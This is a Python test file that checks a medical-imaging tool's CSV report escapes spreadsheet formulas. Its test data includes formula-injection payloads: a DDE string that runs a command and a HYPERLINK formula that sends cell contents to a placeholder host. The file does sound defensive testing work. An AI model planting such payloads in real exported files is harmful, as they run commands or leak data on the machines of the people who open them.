"""Tables that people open in a spreadsheet hold no formula of somebody else."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dicomnode.csv_cells import inert
from dicomnode.masks.make import Outcome
from dicomnode.masks.report import CSV_NAME, Line, write_report

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("cell", ["sub-01/anat.nii.gz", "", "a=1", -1.5, 3, None])
def test_anything_else_stays_as_it_is(cell: object) -> None:
    assert inert(cell) == cell


def test_the_report_of_a_data_set_has_no_formula_for_a_file_name(tmp_path: Path) -> None:
    outcome = Outcome(FORMULAS[0], "skipped", reasons=(FORMULAS[1],))
    write_report(tmp_path, [Line(FORMULAS[0], outcome)], {})
    with (tmp_path / CSV_NAME).open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
